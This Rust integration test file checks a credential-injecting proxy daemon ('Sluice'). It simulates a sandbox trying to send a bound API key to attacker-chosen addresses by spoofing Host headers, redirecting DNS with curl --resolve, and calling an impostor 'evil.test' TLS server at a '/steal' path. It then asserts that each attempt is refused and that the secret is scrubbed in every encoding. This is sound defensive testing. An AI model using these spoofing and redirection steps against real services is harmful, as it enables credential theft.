//! Credentials only over verified TLS, and echoes scrubbed in every form, end to end through
//! the real daemon: a sandbox that points plain HTTP (capture or explicit proxy) at an
//! address it chose gets 403 and that address gets nothing; TLS toward a sandbox-chosen
//! address whose certificate is for another name gets 502; upstream echoes in trailers,
//! compressed bodies and encodings reach the sandbox only as placeholders.

#![expect(clippy::unwrap_used, reason = "test helpers fail loudly")]

use std::net::SocketAddr;

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE};
use bytes::Bytes;
use serde_json::Value;
use tests::sluice::{Options, Sluice};
use tests::upstream::{self, Canned, RunningUpstream};
use tests::{NetLab, TestCa, addrs};
use tokio::io::AsyncReadExt;

/// The real value, bound to api.test. Its base64 has `/` and `+`, so base64url differs.
const SECRET: &str = "sk-live/8c1f+0e7d?2b9a>>4c6e~8f1a3b5d7c9";
const PLACEHOLDER: &str = "sluice_cred:API_KEY";

struct World {
    lab: NetLab,
    ca: TestCa,
    ca_file: tempfile::TempPath,
}

fn world(name: &str) -> World {
    let lab = NetLab::new(name).unwrap();
    let ca = TestCa::new().unwrap();
    let ca_file = ca.pem_file().unwrap();
    World { lab, ca, ca_file }
}

impl World {
    fn sluice(&self) -> Sluice {
        let ca_file = self.ca_file.to_path_buf();
        Sluice::start(
            &self.lab,
            &Options {
                extra_toml: format!("[upstream]\nextra_roots = [{ca_file:?}]\n"),
                dns_hosts: vec![
                    ("api.test".into(), addrs::FAR_HOST.to_string()),
                    ("other.test".into(), addrs::HOST_A.to_string()),
                ],
                ..Options::default()
            },
        )
        .unwrap()
    }

    /// An HTTPS fake whose certificate (from the trusted test CA) names `host`.
    fn https(&self, host: &str) -> upstream::HttpUpstream {
        upstream::https(&self.ca).hostname(host)
    }
}

/// A session holding `API_KEY` (bound to api.test, allowed in queries and bodies); returns
/// (id, token).
fn session(sluice: &Sluice) -> (String, String) {
    sluice
        .create_session(
            &["--cred", "API_KEY=env:SECRET@api.test"],
            &[("SECRET", SECRET)],
        )
        .unwrap()
}

/// curl in a sandbox of `session` (captured), trusting the Sluice CA; stdout + stderr.
fn curl(sluice: &Sluice, session: &str, args: &[&str]) -> String {
    sluice.curl_in_session(session, args).unwrap()
}

/// curl through the explicit proxy with the session's token; stdout + stderr.
fn via_proxy(sluice: &Sluice, token: &str, args: &[&str]) -> String {
    let out = sluice
        .node_command("curl")
        .args(["-sS", "--max-time", "10", "-x"])
        .arg(format!("http://sluice:{token}@127.0.0.1:3128"))
        .args(args)
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr)
}

fn hex(text: &str) -> String {
    text.bytes().map(|b| format!("{b:02x}")).collect()
}

fn percent(text: &str) -> String {
    text.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                char::from(b).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// Every form of `SECRET` the sandbox must never see.
fn secret_forms() -> Vec<String> {
    vec![
        SECRET.into(),
        SECRET.replace('/', "\\/"),
        hex(SECRET),
        hex(SECRET).to_uppercase(),
        percent(SECRET),
        STANDARD.encode(SECRET),
        URL_SAFE.encode(SECRET),
        // The value's own characters inside a longer base64 string.
        STANDARD.encode(format!("user:{SECRET}"))[8..40].to_owned(),
    ]
}

fn assert_no_secret(out: &str, what: &str) {
    for form in secret_forms() {
        assert!(
            !out.contains(&form),
            "{what}: the sandbox saw {form:?} in {out}"
        );
    }
}

fn assert_received_nothing(fake: &RunningUpstream, what: &str) {
    assert!(
        fake.requests().is_empty(),
        "{what}: the sandbox-chosen address received {:?}",
        fake.requests()
    );
}

#[test]
fn plain_http_to_an_address_the_sandbox_chose_never_carries_a_credential() {
    let w = world("scp");
    // The "attacker": a plain HTTP server at an address the sandbox picks.
    let attacker = upstream::http()
        .echo()
        .start(&w.lab, SocketAddr::new(addrs::HOST_B.into(), 80))
        .unwrap();
    let sluice = w.sluice();
    let (id, token) = session(&sluice);
    let ip = addrs::HOST_B.to_string();
    let resolve = format!("api.test:80:{ip}");
    let auth = format!("Authorization: Bearer {PLACEHOLDER}");

    let captured: Vec<(&str, Vec<String>)> = vec![
        (
            "header, spoofed Host toward an IP",
            vec![
                "-H".into(),
                "Host: api.test".into(),
                "-H".into(),
                auth.clone(),
                format!("http://{ip}/"),
            ],
        ),
        (
            "header, api.test resolved to the attacker",
            vec![
                "--resolve".into(),
                resolve.clone(),
                "-H".into(),
                auth.clone(),
                "http://api.test/".into(),
            ],
        ),
        (
            "query",
            vec![
                "--resolve".into(),
                resolve.clone(),
                format!("http://api.test/q?key={PLACEHOLDER}"),
            ],
        ),
        (
            "JSON body",
            vec![
                "--resolve".into(),
                resolve.clone(),
                "-H".into(),
                "content-type: application/json".into(),
                "--data-binary".into(),
                format!("{{\"key\":\"{PLACEHOLDER}\"}}"),
                "http://api.test/b".into(),
            ],
        ),
    ];
    for (what, args) in &captured {
        let mut args: Vec<&str> = args.iter().map(String::as_str).collect();
        args.insert(0, "-i");
        let out = curl(&sluice, &id, &args);
        assert!(out.starts_with("HTTP/1.1 403"), "{what}: {out}");
        assert!(
            out.contains("credential API_KEY is only sent over HTTPS to api.test")
                && out.contains("plain HTTP"),
            "{what}: the reason names the credential and why: {out}"
        );
        assert_received_nothing(&attacker, what);
    }

    // The explicit proxy: absolute-form, and a CONNECT tunnel to the IP with plain HTTP in it.
    // (A spoofed Host on an absolute-form request toward the IP is refused even earlier: it
    // differs from the request target.)
    let spoofed = via_proxy(
        &sluice,
        &token,
        &[
            "-i",
            "-H",
            "Host: api.test",
            "-H",
            &auth,
            &format!("http://{ip}/"),
        ],
    );
    assert!(spoofed.contains("HTTP/1.1 400"), "{spoofed}");
    assert!(
        spoofed.contains("differs from the request target"),
        "{spoofed}"
    );
    assert_received_nothing(&attacker, "absolute-form toward the IP, spoofed Host");
    let proxied: Vec<(&str, Vec<String>)> = vec![
        (
            "absolute-form",
            vec!["-H".into(), auth.clone(), "http://api.test/".into()],
        ),
        (
            "CONNECT to the IP, then plain HTTP with a spoofed Host",
            vec![
                "-p".into(),
                "-H".into(),
                "Host: api.test".into(),
                "-H".into(),
                auth.clone(),
                format!("http://{ip}/"),
            ],
        ),
    ];
    for (what, args) in &proxied {
        let mut args: Vec<&str> = args.iter().map(String::as_str).collect();
        args.insert(0, "-i");
        let out = via_proxy(&sluice, &token, &args);
        assert!(out.contains("HTTP/1.1 403"), "{what}: {out}");
        assert!(
            out.contains("credential API_KEY is only sent over HTTPS"),
            "{what}: {out}"
        );
        assert_received_nothing(&attacker, what);
    }

    // Records are written as requests finish: wait (bounded) until every refusal has one.
    let expected = captured.len() + proxied.len();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
    let (refusals, records) = loop {
        let records = sluice.audit();
        let refusals = records
            .iter()
            .filter(|r| {
                r["kind"] == "request"
                    && r["decision"] == "deny"
                    && r["reason"]
                        .as_str()
                        .is_some_and(|t| t.contains("only sent over HTTPS"))
            })
            .count();
        if refusals >= expected || std::time::Instant::now() > deadline {
            break (refusals, records);
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    };
    assert_eq!(
        refusals, expected,
        "one audit record per refusal: {records:?}"
    );
    let audit = std::fs::read_to_string(sluice.state_dir().join("audit.jsonl")).unwrap();
    assert_no_secret(&audit, "the audit log");
    assert_no_secret(&sluice.log(1), "the daemon log");
}

#[test]
fn tls_to_an_address_the_sandbox_chose_must_verify_for_the_credentials_host() {
    let w = world("sct");
    // A TLS server at a sandbox-chosen address, with a valid certificate for another name.
    let impostor = w
        .https("evil.test")
        .echo()
        .start(&w.lab, SocketAddr::new(addrs::HOST_C.into(), 443))
        .unwrap();
    let sluice = w.sluice();
    let (id, _) = session(&sluice);
    let out = curl(
        &sluice,
        &id,
        &[
            "-i",
            "--resolve",
            &format!("api.test:443:{}", addrs::HOST_C),
            "-H",
            &format!("Authorization: Bearer {PLACEHOLDER}"),
            "https://api.test/steal",
        ],
    );
    assert!(out.starts_with("HTTP/2 502"), "{out}");
    assert!(out.contains("certificate for api.test"), "{out}");
    assert_received_nothing(&impostor, "a wrong-name certificate");
    assert_no_secret(&out, "the 502");
}

/// `data` compressed as `br` when `brotli`, else as `gzip`.
fn compress(brotli: bool, data: &[u8]) -> Vec<u8> {
    let runtime = tokio::runtime::Builder::new_current_thread()
        .build()
        .unwrap();
    runtime.block_on(async {
        let mut out = Vec::new();
        if brotli {
            async_compression::tokio::bufread::BrotliEncoder::new(data)
                .read_to_end(&mut out)
                .await
                .unwrap();
        } else {
            async_compression::tokio::bufread::GzipEncoder::new(data)
                .read_to_end(&mut out)
                .await
                .unwrap();
        }
        out
    })
}

/// A canned response of `body` in 7-byte chunks (so the secret spans several) with `headers`.
fn canned(headers: &[(&str, &str)], body: &[u8]) -> Canned {
    Canned {
        headers: headers
            .iter()
            .map(|(n, v)| ((*n).to_owned(), (*v).to_owned()))
            .collect(),
        chunks: body.chunks(7).map(Bytes::copy_from_slice).collect(),
        ..Canned::default()
    }
}

#[test]
fn echoes_reach_the_sandbox_only_as_placeholders_in_every_form() {
    let w = world("sce");
    let echoed = format!("{{\"token\":\"{SECRET}\"}}");
    // JSON with `/` escaped, as PHP and others write it.
    let json_escaped = format!("{{\"t\":\"{}\"}}", SECRET.replace('/', "\\/"));
    let api = w
        .https("api.test")
        .canned(
            "/trailer",
            Canned {
                trailers: vec![("x-echo".into(), format!("Bearer {SECRET}"))],
                ..canned(&[], b"see trailers\n")
            },
        )
        .canned("/header", canned(&[("x-echo", SECRET)], b"see headers\n"))
        .canned(
            "/gzip",
            canned(
                &[("content-encoding", "gzip")],
                &compress(false, echoed.as_bytes()),
            ),
        )
        .canned(
            "/br",
            canned(
                &[("content-encoding", "br")],
                &compress(true, echoed.as_bytes()),
            ),
        )
        .route("/hex", format!("hex={}\n", hex(SECRET)))
        .route("/HEX", format!("hex={}\n", hex(SECRET).to_uppercase()))
        .route("/percent", format!("p={}\n", percent(SECRET)))
        .route("/base64", format!("b={}\n", STANDARD.encode(SECRET)))
        .route("/base64url", format!("b={}\n", URL_SAFE.encode(SECRET)))
        .route(
            "/basic",
            format!("basic={}\n", STANDARD.encode(format!("user:{SECRET}"))),
        )
        .route("/json", json_escaped.clone())
        .canned(
            "/compress",
            canned(&[("content-encoding", "compress")], echoed.as_bytes()),
        )
        .canned(
            "/stacked",
            canned(
                &[("content-encoding", "gzip, br")],
                &compress(true, &compress(false, echoed.as_bytes())),
            ),
        )
        .canned(
            "/corrupt",
            canned(&[("content-encoding", "gzip")], echoed.as_bytes()),
        )
        .start(&w.lab, SocketAddr::new(addrs::FAR_HOST.into(), 443))
        .unwrap();
    // Another host the credential is not bound to, which stored the value earlier.
    let other = w
        .https("other.test")
        .route("/stored", format!("stored={SECRET}\n"))
        .start(&w.lab, SocketAddr::new(addrs::HOST_A.into(), 443))
        .unwrap();
    let sluice = w.sluice();
    let (id, _) = session(&sluice);
    assert_ne!(STANDARD.encode(SECRET), URL_SAFE.encode(SECRET));

    let fetch = |url: &str| curl(&sluice, &id, &["-i", url]);
    let cases: Vec<(&str, String)> = vec![
        ("/trailer", format!("x-echo: Bearer {PLACEHOLDER}")),
        ("/header", format!("x-echo: {PLACEHOLDER}")),
        ("/gzip", format!("{{\"token\":\"{PLACEHOLDER}\"}}")),
        ("/br", format!("{{\"token\":\"{PLACEHOLDER}\"}}")),
        ("/hex", format!("hex={}", hex(PLACEHOLDER))),
        ("/HEX", format!("hex={}", hex(PLACEHOLDER).to_uppercase())),
        ("/percent", format!("p={}", percent(PLACEHOLDER))),
        ("/base64", format!("b={}", STANDARD.encode(PLACEHOLDER))),
        ("/base64url", format!("b={}", URL_SAFE.encode(PLACEHOLDER))),
        ("/json", format!("\"t\":\"{PLACEHOLDER}\"")),
    ];
    for (path, want) in &cases {
        let out = fetch(&format!("https://api.test{path}"));
        assert!(out.starts_with("HTTP/2 200"), "{path}: {out}");
        assert_no_secret(&out, path);
        assert!(
            out.contains(want.as_str()),
            "{path}: want {want:?} in {out}"
        );
        if matches!(*path, "/gzip" | "/br") {
            assert!(
                !out.to_ascii_lowercase().contains("content-encoding"),
                "{path}: sent identity-encoded: {out}"
            );
        }
    }
    let basic = fetch("https://api.test/basic");
    assert!(basic.starts_with("HTTP/2 200"), "{basic}");
    assert_no_secret(&basic, "/basic");

    let stored = fetch("https://other.test/stored");
    assert!(stored.starts_with("HTTP/2 200"), "{stored}");
    assert!(
        stored.contains(&format!("stored={PLACEHOLDER}")),
        "{stored}"
    );
    assert_no_secret(&stored, "another host's echo");
    assert_eq!(other.requests().len(), 1);

    for (path, reason) in [
        ("/compress", "`compress`"),
        ("/stacked", "several times"),
        ("/corrupt", "does not decode"),
    ] {
        let out = fetch(&format!("https://api.test{path}"));
        assert!(out.starts_with("HTTP/2 502"), "{path}: {out}");
        assert!(out.contains(reason), "{path}: {out}");
        assert_no_secret(&out, path);
    }
    assert!(api.requests().len() >= cases.len());
}

/// A WebSocket client in the sandbox: upgrades (offering permessage-deflate) with
/// `Authorization: Bearer <placeholder>`, reads `argv[4]` messages, sends one text message
/// and reads its echo, then closes; prints JSON (`status`, `head`, `body`, `messages`).
const WS_CLIENT: &str = r#"
import base64, json, os, socket, ssl, struct, sys
host, path, cafile, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
ctx = ssl.create_default_context(cafile=cafile)
s = ctx.wrap_socket(socket.create_connection((host, 443), timeout=10), server_hostname=host)
key = base64.b64encode(os.urandom(16)).decode()
s.sendall((f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\n"
           f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n"
           "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits\r\n"
           "Authorization: Bearer sluice_cred:API_KEY\r\n\r\n").encode())
buf = b""
while b"\r\n\r\n" not in buf:
    chunk = s.recv(4096)
    if not chunk:
        break
    buf += chunk
head, _, rest = buf.partition(b"\r\n\r\n")
head = head.decode()
status = int(head.split(" ")[1])
out = {"status": status, "head": head, "messages": []}
def exact(n):
    global rest
    while len(rest) < n:
        chunk = s.recv(65536)
        if not chunk:
            raise EOFError
        rest += chunk
    data, rest = rest[:n], rest[n:]
    return data
def frame():
    b0, b1 = exact(2)
    n = b1 & 0x7f
    if n == 126:
        n = struct.unpack("!H", exact(2))[0]
    elif n == 127:
        n = struct.unpack("!Q", exact(8))[0]
    return b0 & 0x0f, exact(n)
def send(op, payload):
    mask = os.urandom(4)
    masked = bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
    s.sendall(bytes([0x80 | op, 0x80 | len(payload)]) + mask + masked)
def show(op, data):
    if op == 8:
        return {"close": struct.unpack("!H", data[:2])[0] if data else None}
    return {"text" if op == 1 else "binary": data.decode("utf-8", "replace")}
if status != 101:
    try:
        while True:
            chunk = s.recv(4096)
            if not chunk:
                break
            rest += chunk
    except Exception:
        pass
    out["body"] = rest.decode("utf-8", "replace")
else:
    for _ in range(count):
        out["messages"].append(show(*frame()))
    send(1, b"up: sluice_cred:API_KEY")
    out["messages"].append(show(*frame()))
    send(8, struct.pack("!H", 1000))
    out["messages"].append(show(*frame()))
print(json.dumps(out))
"#;

/// Runs [`WS_CLIENT`] in a sandbox of `session` toward `https://api.test{path}`.
fn websocket(sluice: &Sluice, session: &str, path: &str, count: usize) -> Value {
    let ca = sluice.state_dir().join("ca.pem");
    let count = count.to_string();
    let argv = [
        "python3",
        "-c",
        WS_CLIENT,
        "api.test",
        path,
        ca.to_str().unwrap(),
        &count,
    ];
    let out = sluice
        .exec(&["--session", session], &argv)
        .output()
        .unwrap();
    serde_json::from_slice(&out.stdout)
        .map_err(|e| format!("{e}: {out:?}"))
        .unwrap()
}

#[test]
fn websocket_messages_echoing_a_secret_reach_the_sandbox_as_placeholders() {
    let w = world("scw");
    let api = w
        .https("api.test")
        .h2(false)
        .websocket_echo_header("/ws", "authorization")
        .websocket_force_deflate("/deflate")
        .start(&w.lab, SocketAddr::new(addrs::FAR_HOST.into(), 443))
        .unwrap();
    let sluice = w.sluice();
    let (id, _) = session(&sluice);

    let got = websocket(&sluice, &id, "/ws", 3);
    assert_eq!(got["status"], 101, "{got}");
    let head = got["head"].as_str().unwrap().to_ascii_lowercase();
    assert!(!head.contains("sec-websocket-extensions"), "{got}");
    let bearer = format!("Bearer {PLACEHOLDER}");
    let want = serde_json::json!([
        {"text": bearer},
        {"binary": hex(&bearer)},
        {"text": STANDARD.encode(&bearer)},
        // What the sandbox sends goes up unchanged (placeholders are not injected into
        // messages) and comes back as sent.
        {"text": format!("up: {PLACEHOLDER}")},
        {"close": 1000},
    ]);
    assert_eq!(got["messages"], want, "{got}");
    assert_no_secret(&got.to_string(), "WebSocket messages");
    // The upstream did get the real value, and no extension offer.
    let upgrade = &api.requests()[0];
    assert_eq!(
        upgrade.headers["authorization"],
        format!("Bearer {SECRET}").as_str()
    );
    assert!(
        !upgrade.headers.contains_key("sec-websocket-extensions"),
        "{upgrade:?}"
    );
    let record = sluice
        .wait_audit(|r| r["kind"] == "request" && r["status"] == 101)
        .unwrap();
    assert_eq!(record["protocol"], "http/1.1>websocket", "{record}");
    assert!(record["bytes_down"].as_u64().unwrap() > 0, "{record}");
    assert!(record["bytes_up"].as_u64().unwrap() > 0, "{record}");

    // An upstream that negotiates compression anyway is refused: nothing unreadable passes.
    let refused = websocket(&sluice, &id, "/deflate", 0);
    assert_eq!(refused["status"], 502, "{refused}");
    let reason = "upstream negotiated a WebSocket extension the gateway cannot scrub";
    assert!(
        refused["body"].as_str().unwrap().contains(reason),
        "{refused}"
    );
    let record = sluice
        .wait_audit(|r| r["kind"] == "request" && r["status"] == 502)
        .unwrap();
    assert!(
        record["reason"].as_str().unwrap().contains(reason),
        "{record}"
    );
    let audit = std::fs::read_to_string(sluice.state_dir().join("audit.jsonl")).unwrap();
    assert_no_secret(&audit, "the audit log");
}
